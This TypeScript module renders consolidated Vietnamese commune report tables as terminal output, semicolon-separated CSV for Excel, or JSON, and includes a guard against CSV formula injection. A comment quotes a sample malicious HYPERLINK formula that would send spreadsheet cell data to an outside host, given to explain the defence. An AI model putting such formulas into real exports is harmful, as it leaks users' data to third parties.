// Renders the consolidated table as a terminal table, CSV or JSON (the XLSX is in xlsx.ts).
import Table from 'cli-table3';
import { COLUMNS, EXPORT_COLUMNS, STATUS_MISSING, type ColumnKey, type ConsolidatedRow, type ConsolidatedTable } from './table.ts';

export type TableFormat = 'table' | 'csv' | 'json';

/** One cell as text: numbers without binary noise, the commune with its kind ('xã Đông Lỗ'). */
export function cellText(row: ConsolidatedRow, key: ColumnKey): string {
  const v = (row as unknown as Record<string, unknown>)[key];
  if (v === null || v === undefined) return '';
  if (key === 'flags' && row.status === STATUS_MISSING) return ''; // no report, no flags count
  if (typeof v === 'number') return Number.isInteger(v) ? String(v) : String(Math.round(v * 100) / 100);
  return key === 'commune' && row.communeKind ? `${row.communeKind} ${String(v)}` : String(v);
}

/**
 * The CSV is for Excel under Vietnamese regional settings, which reads ',' as the decimal mark and
 * therefore ';' as the list separator: fields are separated by ';' and decimals written with ','
 * (1.719,58 ha → 1719,58), so a double-click opens it in columns with numbers as numbers. The file
 * is UTF-8 with a byte-order mark (added by the API and the CLI's --out), which tells Excel the encoding.
 */
export const CSV_SEPARATOR = ';';

function csvField(s: string): string {
  return /[";,\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/**
 * Text a spreadsheet would run as a formula when it opens the CSV — starting with =, +, -, @,
 * a tab or a carriage return (e.g. `=HYPERLINK("http://…?"&A1,"x")` from a report or a
 * correction) — is prefixed with an apostrophe, so it shows as the text it is. Only text is
 * touched: a number of the table (a JS number, written by us as digits, '-' and '.') stays a
 * number, so a negative figure such as -5 is still read as -5.
 */
export function neutraliseFormula(s: string): string {
  return /^[=+\-@\t\r]/.test(s) ? `'${s}` : s;
}

/** One CSV cell: a number as written, text neutralised. */
function csvCell(row: ConsolidatedRow, key: ColumnKey): string {
  const v = (row as unknown as Record<string, unknown>)[key];
  const text = cellText(row, key);
  return typeof v === 'number' && Number.isFinite(v) ? text.replace('.', ',') : neutraliseFormula(text);
}

/** The full table as CSV for Vietnamese Excel (every commune of each district, the totals row after them). */
export function renderCsv(t: ConsolidatedTable): string {
  const header = ['Kỳ báo cáo', 'Huyện', ...EXPORT_COLUMNS.map((c) => c.header)];
  const lines = [header.map(csvField).join(CSV_SEPARATOR)];
  for (const d of t.districts) {
    for (const row of [...d.rows, d.totals]) {
      const cells = [neutraliseFormula(t.period), neutraliseFormula(d.district), ...EXPORT_COLUMNS.map((c) => csvCell(row, c.key))];
      lines.push(cells.map(csvField).join(CSV_SEPARATOR));
    }
  }
  return `${lines.join('\n')}\n`;
}

export function renderTerminal(t: ConsolidatedTable): string {
  if (t.districts.length === 0) return `Kỳ ${t.period}: chưa có báo cáo nào.\n`;
  const parts: string[] = [];
  for (const d of t.districts) {
    const table = new Table({ head: COLUMNS.map((c) => c.header), style: { head: [], border: [] } });
    for (const row of d.rows) table.push(COLUMNS.map((c) => cellText(row, c.key)));
    table.push(COLUMNS.map((c) => cellText(d.totals, c.key)));
    parts.push(
      `Kỳ ${t.period} — ${d.label}: ${d.reported}/${d.communes} đơn vị đã báo cáo${d.registry ? ` (${d.registry})` : ''}\n${table.toString()}` +
        d.rows
          .filter((r) => r.note || r.carriesOn)
          .map((r) => `\n  * ${r.communeKind ?? ''} ${r.commune}: ${r.note ?? `kế thừa ${r.carriesOn!.join(', ')}`}`.replace('*  ', '* '))
          .join(''),
    );
  }
  if (t.outside.length) {
    parts.push(
      `Báo cáo của đơn vị ngoài phạm vi tổng hợp (không cộng vào bảng):\n${t.outside
        .map((o) => `- ${o.communeKind ?? ''} ${o.commune ?? '(không rõ)'}, ${o.district ?? '(không rõ huyện)'} (báo cáo #${o.reportId})`.replace(/^- \s+/, '- '))
        .join('\n')}`,
    );
  }
  return `${parts.join('\n\n')}\n`;
}

export function renderConsolidated(t: ConsolidatedTable, format: TableFormat): string {
  if (format === 'json') return `${JSON.stringify(t, null, 2)}\n`;
  if (format === 'csv') return renderCsv(t);
  return renderTerminal(t);
}
